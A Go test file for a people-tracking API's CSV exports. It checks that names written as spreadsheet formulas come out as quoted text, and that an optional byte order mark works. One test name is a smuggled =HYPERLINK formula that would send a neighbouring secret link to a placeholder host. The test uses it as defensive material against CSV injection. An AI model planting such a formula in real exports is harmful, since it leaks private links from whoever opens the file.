package api_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/outpost-org/outpost/internal/storetest"
)

// TestCSVDownloadsNeverCarryFormulas: a person whose names a spreadsheet
// would run (=HYPERLINK(…) pointing at the secret link beside it) comes
// out of the link export and the manifest as text, starting with a quote.
func TestCSVDownloadsNeverCarryFormulas(t *testing.T) {
	each(t, func(t *testing.T, c *corps) {
		p := storetest.Person("RU-0001", "RU-H1", "RU")
		p.GivenName, p.FamilyName = `=HYPERLINK("http://x/?"&E2,"click")`, "@SUM(1+1)"
		if _, err := c.store.ImportPeople(storetest.Ctx(), storetest.Batch(p)); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{
			fmt.Sprintf("/api/v1/rollcalls/%d/links", c.all),
			fmt.Sprintf("/api/v1/plans/%d/departures/TRAIN-1/manifest", c.plan),
		} {
			a := c.get(path, "manager")
			rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
			if err != nil || a.status != 200 {
				t.Fatalf("%s: %d %v\n%s", path, a.status, err, a.body)
			}
			found := 0
			for _, row := range rows {
				for _, cell := range row {
					if t := strings.TrimLeft(cell, " "); t != "" && strings.ContainsAny(t[:1], "=+-@\t\r") {
						found = -1000
					}
					if cell == `'=HYPERLINK("http://x/?"&E2,"click")` || cell == "'@SUM(1+1)" {
						found++
					}
				}
			}
			if found != 2 {
				t.Errorf("%s: the names are not both written as quoted text:\n%s", path, a.body)
			}
		}
	})
}

// TestCSVDownloadsWithBOM: ?bom=1 starts each CSV download with a UTF-8
// byte order mark and changes nothing else (Content-Length included);
// without it the file is as before; a PDF ignores it; a value that is not
// 0 or 1 is a 400 naming the parameter.
func TestCSVDownloadsWithBOM(t *testing.T) {
	each(t, func(t *testing.T, c *corps) {
		p := storetest.Person("RU-0001", "RU-H1", "RU")
		p.GivenName, p.FamilyName = "Анна", "Петрова"
		if _, err := c.store.ImportPeople(storetest.Ctx(), storetest.Batch(p)); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{
			fmt.Sprintf("/api/v1/rollcalls/%d/links", c.all),
			fmt.Sprintf("/api/v1/plans/%d/departures/TRAIN-1/manifest", c.plan),
		} {
			plain := c.get(path, "manager")
			with := c.get(path+"?bom=1", "manager")
			if plain.status != 200 || with.status != 200 {
				t.Fatalf("%s: %d, with bom %d\n%s", path, plain.status, with.status, with.body)
			}
			if strings.HasPrefix(plain.body, "\ufeff") || !strings.Contains(plain.body, "Петрова") {
				t.Errorf("%s: the default file changed:\n%q", path, plain.body)
			}
			if with.body[:3] != "\xef\xbb\xbf" || with.body[3:] != plain.body {
				t.Errorf("%s?bom=1: want EF BB BF then the same file, got %q", path, with.body)
			}
			if n := with.header.Get("Content-Length"); n != "" && n != fmt.Sprint(len(with.body)) {
				t.Errorf("%s?bom=1: Content-Length %s for %d bytes", path, n, len(with.body))
			}
			if a := c.get(path+"?bom=0", "manager"); a.body != plain.body {
				t.Errorf("%s?bom=0: the file changed", path)
			}
			if a := c.get(path+"?bom=yes", "manager"); a.status != 400 || !strings.Contains(a.body, "bom") {
				t.Errorf("%s?bom=yes: %d %s, want a 400 naming bom", path, a.status, a.body)
			}
		}
		pdf := c.get(fmt.Sprintf("/api/v1/plans/%d/departures/TRAIN-1/manifest?format=pdf&bom=1", c.plan), "manager")
		if pdf.status != 200 || !strings.HasPrefix(pdf.body, "%PDF-") {
			t.Errorf("a PDF with bom=1: %d %.20q", pdf.status, pdf.body)
		}
	})
}
